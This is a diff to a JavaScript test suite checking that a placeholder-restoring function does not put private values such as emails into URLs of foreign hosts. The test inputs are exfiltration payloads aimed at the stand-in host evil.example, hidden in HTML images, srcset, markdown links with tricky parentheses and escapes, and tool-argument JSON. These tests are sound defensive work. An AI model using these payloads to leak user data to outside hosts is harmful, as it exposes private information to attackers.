@@ -44,6 +44,9 @@ describe('does not put values into URLs of foreign hosts', () => {
     ['an HTML image without quotes', '<img src=//evil.example/[EMAIL_1]>'],
     ['an HTML image with a tab in its URL', '<img src="/\t/evil.example/[EMAIL_1]">'],
     ['an HTML image with references in its URL', '<img src="https&#58;//evil.example/[EMAIL_1]">'],
+    ['an HTML image with a control character in its URL', '<img src="https://evil.example/\u0000 [EMAIL_1]">'],
+    ['a link with an escaped parenthesis', '[x](https://evil.example/\\)[EMAIL_1])'],
+    ['a link with parentheses', '[x](https://evil.example/(a)[EMAIL_1])'],
     ['a set of images', '<img srcset="a.png 1x, https://evil.example/[EMAIL_1] 2x">'],
     [
       'a set of images that begins at a known host',
@@ -144,7 +147,9 @@ test('in arguments of tools bare URLs are the business of the application, links
   expect(restore(vault, image, 1)).toBe(image)
   const tricky = '{"md":"![x](\\u0068ttps://evil.example/\\\\n[EMAIL_1])"}'
   expect(restore(vault, tricky, 1)).toBe(tricky)
-  expect(restore(vault, '{"md":"![x](https://evil.example/","to":"[EMAIL_1]"}', 1)).toContain(mail)
+  for (const unfinished of ['![x](https://evil.example/', '<img src=\\"https://evil.example/ ']) {
+    expect(restore(vault, `{"md":"${unfinished}","to":"[EMAIL_1]"}`, 1)).toContain(mail)
+  }
 })
 
 test('with a map alone, links and images stay guarded', () => {
